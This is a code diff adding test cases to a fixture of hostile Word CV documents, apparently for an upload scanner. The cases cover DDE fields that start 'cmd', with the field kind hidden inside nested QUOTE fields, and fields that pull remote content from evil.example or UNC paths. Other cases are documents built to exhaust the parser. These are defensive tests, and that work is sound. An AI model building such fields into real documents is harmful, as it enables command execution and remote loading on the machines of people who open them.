@@ -38,6 +38,10 @@ const begin = mark('begin');
 const end = mark('end');
 /** A field within the code of another one, with its result. */
 const within = `${begin}${code('QUOTE 1')}${mark('separate')}${code('1')}${end}`;
+/** A field with this in its code. */
+const around = (content: string) => `${begin}${content}${mark('separate')}<w:t>1</w:t>${end}`;
+/** A field that computes a part of the code of the field around it. */
+const quoting = (text: string) => around(code(`QUOTE "${text}"`));
 
 /** Word documents that would run or load something when they are opened. */
 export const activeDocuments: HostileFile[] = [
@@ -140,6 +144,10 @@ export const activeDocuments: HostileFile[] = [
     ['such a field around another', `${begin}${code('DD')}${within}${code('E cmd')}${end}`],
     ['such a field within another', `${begin}${code('IF 1 = ')}${begin}${code('DDE cmd')}${end}`],
     ['a field whose kind another one decides', `${begin}${within}${code(' cmd')}${end}`],
+    [
+      'a field whose kind a short one decides',
+      around(`${code('DD')}<w:fldSimple w:instr="QUOTE E"/>${code(' cmd')}`),
+    ],
   ].map(
     ([what, content = '']): HostileFile => [
       'cv_document',
@@ -149,15 +157,79 @@ export const activeDocuments: HostileFile[] = [
       { refused: /a field that starts a program/ },
     ],
   ),
-  ...['"https://evil.example/a.png" \\d', '\\\\\\\\evil\\\\a.png'].map(
-    (address): HostileFile => [
+  ...[
+    'INCLUDEPICTURE "https://evil.example/a.png" \\d',
+    'INCLUDEPICTURE \\\\\\\\evil\\\\a.png',
+    'INCLUDE https://evil.example/a.docx',
+    'INCLUDETEXT "\\\\\\\\evil\\\\a.docx"',
+    'import "https://evil.example/a.png"',
+    'LINK Word.Document.12 "https://evil.example/a.docx" \\a',
+    'RD "https://evil.example/a.docx"',
+    'DATABASE \\c "DSN=a;Server=evil.example" \\s "SELECT 1"',
+  ].map(
+    (text): HostileFile => [
       'cv_document',
-      `a document with the picture ${address}`,
+      `a document with the field ${text}`,
       'a.docx',
-      headed(code(` INCLUDEPICTURE ${address} \\* MERGEFORMATINET`)),
-      { refused: /loads parts of it from elsewhere/ },
+      headed(around(code(` ${text} \\* MERGEFORMATINET`))),
+      loading,
     ],
   ),
+  ...[
+    [
+      'the address of a picture',
+      around(code('INCLUDEPICTURE ') + quoting('https://evil.example/a.png')),
+    ],
+    [
+      'the end of an address',
+      around(`${code('LINK Word.Document.12 "C:\\\\a')}${quoting('" "https://evil.example/a')}`),
+    ],
+    [
+      'the address of a picture in a short field',
+      around(`${code('INCLUDEPICTURE "')}<w:fldSimple w:instr="QUOTE a"/>${code('"')}`),
+    ],
+    [
+      'the kind of a field that loads a picture',
+      around(code('INCL') + quoting('UDEPICTURE') + code(' "https://evil.example/a.png"')),
+    ],
+    ['the kind of a field that loads a text', around(code('"R') + quoting('D') + code('" a.docx'))],
+  ].map(
+    ([what, content = '']): HostileFile => [
+      'cv_document',
+      `a document where a field computes ${what}`,
+      'a.docx',
+      headed(content),
+      loading,
+    ],
+  ),
+  [
+    'cv_document',
+    'a document with 200,000 fields within fields',
+    'a.docx',
+    () => headed(`${begin}${mark('separate')}`.repeat(200_000)),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a document with a mark of a field with millions of attributes',
+    'a.docx',
+    () => headed(`<w:fldChar${' a=""'.repeat(4_000_000)}/>`),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a document with a mark of a field that does not end',
+    'a.docx',
+    () => headed(`<w:instrText ${'a'.repeat(20_000_000)}`),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a document with 200,000 fields within a long one',
+    'a.docx',
+    () => headed(around(code(`A${' '.repeat(1_000_000)}`) + `${begin}${end}`.repeat(200_000))),
+    stored,
+  ],
   [
     'cv_document',
     'a document whose text is larger than it says',
@@ -179,6 +251,46 @@ export const activeDocuments: HostileFile[] = [
     headed(
       `${begin}${code('IF ')}${within}${code(' = 1')}${mark('separate')}${within}${end}` +
         `${begin}${code('INCLUDEPICTURE "C:\\\\a.png" \\* MERGEFORMAT')}${end}`,
+    ),
+    stored,
+  ],
+  ...[
+    ['pages', 'PAGE'],
+    ['a table of contents', 'TOC \\o "1-3" \\h \\z \\u'],
+    ['a link', 'HYPERLINK "https://ana.test/cv"'],
+    ['a reference', 'REF _Ref1 \\h'],
+    ['an imported name', 'MERGEFIELD IMPORT'],
+    ['the name of a database', 'MERGEFIELD "DATABASE"'],
+    ['a date', 'DATE \\@ "d MMMM yyyy"'],
+    ['links', 'LINKS'],
+    ['a picture of its author', 'INCLUDEPICTURE "C:\\\\Users\\\\Ana\\\\a.png" \\d'],
+    ['a text next to it', 'INCLUDETEXT "a.docx"'],
+    ['a table of its author', 'LINK Excel.Sheet.12 "C:\\\\Ana\\\\a.xlsx" "a" \\a \\h'],
+    ['a citation', `ADDIN ZOTERO_ITEM CSL_CITATION {"a":"${'https://ana.test/ '.repeat(5000)}"}`],
+  ].map(
+    ([what, text = '']): HostileFile => [
+      'cv_document',
+      `a document with a field for ${what}`,
+      'a.docx',
+      headed(around(code(` ${text} `))),
+      stored,
+    ],
+  ),
+  [
+    'cv_document',
+    'a document with links in its table of contents, and fields within other fields',
+    'a.docx',
+    headed(
+      `${begin}${code('TOC \\h')}${mark('separate')}` +
+        around(code('HYPERLINK \\l "a"') + mark('separate') + around(code('PAGEREF a'))).repeat(
+          300,
+        ) +
+        end +
+        around(`${code('IF ')}${around(code('MERGEFIELD a'))}${code(' = "" "" ')}${quoting('a')}`) +
+        around(
+          `${code('HYPERLINK "https://ana.test/')}${around(code('MERGEFIELD a'))}${code('"')}`,
+        ) +
+        around(`${code('DATE \\@ ')}<w:fldSimple w:instr="MERGEFIELD a"/>`),
     ),
     stored,
   ],
